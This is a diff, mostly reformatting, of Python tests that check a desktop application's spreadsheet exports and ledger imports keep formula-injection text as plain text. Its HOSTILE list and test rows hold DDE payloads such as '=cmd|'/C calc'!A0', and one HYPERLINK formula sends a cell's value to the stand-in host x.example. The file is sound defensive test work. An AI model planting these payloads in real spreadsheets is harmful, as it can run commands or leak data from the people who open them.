@@ -1,6 +1,7 @@
 """Formula injection: every spreadsheet the program writes keeps hostile text
 (``=cmd|'/C calc'!A0`` as a resident's name, from a ledger or the form) as
 text — never a formula — and readable as typed."""
+
 from __future__ import annotations
 
 from datetime import date, timedelta
@@ -20,8 +21,15 @@ from desktop.services.demo import (
 from desktop.services.reports import Period
 
 # OWASP's list: = + - @ tab and carriage return at the start.
-HOSTILE = ["=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
-           "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"]
+HOSTILE = [
+    "=cmd|'/C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"点我")',
+]
 
 
 def cells(path):
@@ -42,9 +50,12 @@ def assert_no_formulas(path, *expected):
 
 
 def test_the_writer_stores_formula_like_text_as_text(tmp_path):
-    out = sheets.write_workbook(tmp_path / "t.xlsx", [
-        ("=A1", HOSTILE[:3], [[h, 1, date(2026, 1, 1)] for h in HOSTILE], {0: "@"}),
-    ])
+    out = sheets.write_workbook(
+        tmp_path / "t.xlsx",
+        [
+            ("=A1", HOSTILE[:3], [[h, 1, date(2026, 1, 1)] for h in HOSTILE], {0: "@"}),
+        ],
+    )
     got = assert_no_formulas(out, *HOSTILE[:5], HOSTILE[6])
     numbers = [c for c in got if c.value == 1]
     assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers
@@ -79,8 +90,11 @@ def test_every_export_keeps_hostile_names_as_text(station, tmp_path):
     ]
     # the reports page's 明细 export: a drill into a figure with residents' names
     drills = [f.drill for sec in report.sections for f in sec.figures if f.drill is not None]
-    recs = next(r for r in (reports.records(db, admin, report, d) for d in drills)
-                if any(HOSTILE[0] in map(str, row) for row in r.rows))
+    recs = next(
+        r
+        for r in (reports.records(db, admin, report, d) for d in drills)
+        if any(HOSTILE[0] in map(str, row) for row in r.rows)
+    )
     written.append(sheets.write_workbook(tmp_path / "records.xlsx", [("明细", recs.columns, recs.rows)]))
     for path in written:
         assert_no_formulas(path)
@@ -91,9 +105,19 @@ def test_every_export_keeps_hostile_names_as_text(station, tmp_path):
 
 def test_the_import_problem_report_keeps_hostile_cells_as_text(station, tmp_path):
     db, admin = station
-    sheets.write_workbook(tmp_path / "台账.xlsx", [("台账", ["姓名", "性别", "身份证号码", "联系电话", "=cmd|'/C calc'!A0"], [
-        ["=cmd|'/C calc'!A0", "女", "123", "+86 1390000", "@x"],
-        ["-1+cmd|'/C calc'!A0", "男", "", "-5", "=1+1"]])])  # text cells, as a ledger typed in Excel holds them
+    sheets.write_workbook(
+        tmp_path / "台账.xlsx",
+        [
+            (
+                "台账",
+                ["姓名", "性别", "身份证号码", "联系电话", "=cmd|'/C calc'!A0"],
+                [
+                    ["=cmd|'/C calc'!A0", "女", "123", "+86 1390000", "@x"],
+                    ["-1+cmd|'/C calc'!A0", "男", "", "-5", "=1+1"],
+                ],
+            )
+        ],
+    )  # text cells, as a ledger typed in Excel holds them
     rep = ledger.import_ledger(db, admin, tmp_path / "台账.xlsx", dry_run=True)
     assert rep.errors
     out = paperwork.save_import_report(rep, tmp_path / "问题清单")
